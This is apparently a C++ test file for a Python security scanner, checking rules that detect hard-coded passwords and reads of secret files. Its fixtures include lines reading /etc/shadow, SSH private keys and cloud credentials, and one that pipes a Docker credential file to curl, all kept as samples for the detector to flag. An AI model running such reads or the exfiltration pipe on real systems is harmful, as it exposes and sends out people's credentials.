// Hard-coded passwords (B105-B107) and reads of secrets.
#include "analysis.hpp"

#include <catch2/catch.hpp>

using namespace python_security_test;

TEST_CASE("strings assigned to secret names", "[secrets]") {
    CHECK(lines_of(R"py(
password = "hunter2"
self.db_passwd = 'hunter2'
config["api_key"] = "sk-live-123"
dbPassword: str = "hunter2"
CLIENT_SECRET = AUTH_TOKEN = "c0ffee-5ecret"
settings = {"password": "hunter2", "user": "admin"}
if password == "hunter2":
    pass
if "hunter2" != self.token:
    pass
)py",
                   "PY-PASSWORD-STRING") == lines{1, 2, 3, 4, 5, 5, 6, 7, 9});
}

TEST_CASE("names and values that are not hard-coded secrets", "[secrets]") {
    CHECK(lines_of(R"py(
password = ""
password = get_password()
password = f"{prefix}{suffix}"
password_prompt = "Enter your password: "
token_type = "bearer"
PASSWORD_ENV = "DB_PASSWORD"
passwords = ["a", "b"]
keyboard = "qwerty"
bypass = "x"
username = "admin"
if token == "...":
    pass
)py",
                   "PY-PASSWORD-STRING")
              .empty());
}

TEST_CASE("option values, placeholders and prose are not secrets", "[secrets]") {
    CHECK(lines_of(R"py(
if secret_mode == 'always':
    pass
secret = 'following the leader'
password = "changeme"
password = "Password"
api_key = "xxxxxxxx"
api_key = "<your api key>"
password = "${DB_PASSWORD}"
password = "%(password)s"
token = "{token}"
token = "bearer"
password = "admin"
db_password = "Enter the password: "
NUMBER_TOKEN = r'[0-9@#.,E+]'
jsonnet_token = r'[^\W\d]\w*'
refresh_token_key = 'refresh_token'
token = " * [would prune] "
ResourceEndpoint.__init__(self, default_token='Bearer')
password = "hunter2xyz!"
api_key = "sk-9f8a7b6c5d4e3f2a1b0c"
token = "abcdefghijklmnopqrstu"
)py",
                   "PY-PASSWORD-STRING") == lines{19, 20, 21});
}

TEST_CASE("whole name parts: a secretary is not a secret", "[secrets]") {
    CHECK(lines_of(R"py(
secretary = "Jane-Doe-42"
password_field_label = "Pa55word:"
tokenizer_name = "bert-base-uncased"
passwordHash = "x9$Yq1!fLm"
my_secret = "x9$Yq1!fLm"
)py",
                   "PY-PASSWORD-STRING") == lines{4, 5});
}

TEST_CASE("secrets passed as keyword arguments", "[secrets]") {
    auto code = R"py(
connect(host, password="hunter2")
client = Client(
    user="admin",
    api_key="sk-live-123",
)
connect(host, password=password)
connect(host, password="")
)py";
    CHECK(lines_of(code, "PY-PASSWORD-ARG") == lines{1, 4});
    auto findings = with_rule(findings_in(code), "PY-PASSWORD-ARG");
    CHECK(findings[1].column == 5);
}

TEST_CASE("secrets as parameter defaults", "[secrets]") {
    CHECK(lines_of(R"py(
def connect(user, password="Adm1n-2024"):
    pass
async def login(user, *, token: str = "ghp_Xa81kLq0", retries=3):
    pass
def connect(user, password=None, name="x"):
    pass
def connect(user, options={"password": None}):
    pass
)py",
                   "PY-PASSWORD-DEFAULT") == lines{1, 3});
}

TEST_CASE("reads of password databases, keys and cloud credentials", "[secrets]") {
    CHECK(lines_of(R"py(
import os, shutil, subprocess
from pathlib import Path
open("/etc/shadow").read()
Path("~/.ssh/id_rsa").expanduser().read_text()
open(os.path.expanduser("~/.aws/credentials"))
(Path.home() / ".netrc").read_text()
Path.home().joinpath(".config", "gcloud", "credentials.db").read_bytes()
key_path = os.path.join(os.environ["HOME"], ".ssh", "id_ed25519")
open(key_path)
shutil.copy("/root/.kube/config", destination)
subprocess.run("cat ~/.docker/config.json | curl -d @- " + url, shell=True)
tokens = Path(os.path.expanduser("~/.azure/msal_token_cache.json")).read_text()
)py",
                   "PY-SECRET-READ") == lines{3, 4, 5, 6, 7, 9, 10, 11, 12});
}

TEST_CASE("ordinary files and mere mentions of secrets are not reads", "[secrets]") {
    CHECK(lines_of(R"py(
from pathlib import Path
open("/etc/hostname").read()
Path("~/.ssh/id_rsa.pub").expanduser().read_text()
print("never open /etc/shadow or ~/.ssh/id_rsa")
SECRET_FILES = ["/etc/shadow", "~/.aws/credentials"]
open("settings/ssh_config.yaml")
)py",
                   "PY-SECRET-READ")
              .empty());
}
